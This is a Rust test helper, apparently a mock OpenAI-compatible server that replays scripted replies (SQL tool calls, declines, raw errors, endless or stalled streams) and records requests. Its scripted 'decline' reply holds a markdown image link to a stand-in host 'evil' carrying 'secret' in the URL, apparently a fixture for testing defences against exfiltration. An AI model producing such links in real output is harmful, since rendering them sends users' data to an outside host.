//! A server of the test's own that speaks like an OpenAI-compatible one, says what it is told to, and remembers what
//! it was asked.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::{Router, routing::post};
use futures::StreamExt;
use serde_json::{Value, json};

pub(crate) enum Says {
    /// A call of the tool that gives SQL.
    Sql(&'static str),
    /// A call of the tool that declines.
    No,
    /// A message.
    Message(Value),
    /// These bytes.
    Raw(u16, &'static str),
    /// Bytes without an end.
    Endless,
    /// Nothing for long.
    Nothing,
}

#[derive(Default)]
struct Said {
    script: VecDeque<Says>,
    asked: Vec<(Option<String>, Value)>,
}

/// The server. It ends with the test's process.
#[derive(Clone, Default)]
pub(crate) struct Provider(Arc<Mutex<Said>>);

impl Provider {
    /// Starts one; its address, ready for a client.
    pub(crate) fn start() -> (Self, String) {
        let provider = Self::default();
        let routes =
            Router::new().route("/v1/chat/completions", post(answer)).with_state(provider.clone());
        let (tell, told) = std::sync::mpsc::sync_channel(1);
        std::thread::spawn(move || {
            let runtime =
                tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async {
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                tell.send(listener.local_addr().unwrap()).unwrap();
                axum::serve(listener, routes).await.unwrap();
            });
        });
        let address = told.recv().unwrap();
        (provider, format!("http://{address}/v1/"))
    }

    /// What it says next, one after another.
    pub(crate) fn will_say(&self, script: impl IntoIterator<Item = Says>) {
        self.0.lock().unwrap().script.extend(script);
    }

    /// What it was asked since this was last called: authorization and body.
    pub(crate) fn asked(&self) -> Vec<(Option<String>, Value)> {
        std::mem::take(&mut self.0.lock().unwrap().asked)
    }
}

fn of_message(message: &Value) -> Response {
    let body = json!({ "choices": [{ "message": message }], "usage": { "total_tokens": 500 } });
    body.to_string().into_response()
}

fn of_call(name: &str, arguments: &Value) -> Response {
    let function = json!({ "name": name, "arguments": arguments.to_string() });
    of_message(
        &json!({ "role": "assistant", "tool_calls": [{ "id": "1", "type": "function", "function": function }] }),
    )
}

async fn answer(State(provider): State<Provider>, headers: HeaderMap, body: Bytes) -> Response {
    let says = {
        let mut said = provider.0.lock().unwrap();
        let key = headers.get("authorization").map(|it| it.to_str().unwrap().to_owned());
        said.asked.push((key, serde_json::from_slice(&body).unwrap()));
        said.script.pop_front()
    };
    match says {
        Some(Says::Sql(sql)) => of_call("answer_with_sql", &json!({ "sql": sql })),
        Some(Says::No) => of_call("decline", &json!({ "why": "![x](http://evil/?q=secret)" })),
        Some(Says::Message(message)) => of_message(&message),
        Some(Says::Raw(status, body)) => {
            (StatusCode::from_u16(status).unwrap(), body).into_response()
        }
        Some(Says::Endless) => {
            let piece = || Ok::<_, std::convert::Infallible>(Bytes::from_static(&[b' '; 16_384]));
            Body::from_stream(futures::stream::repeat_with(piece).boxed()).into_response()
        }
        Some(Says::Nothing) => {
            tokio::time::sleep(Duration::from_secs(600)).await;
            "".into_response()
        }
        None => panic!("the test has no more to say"),
    }
}
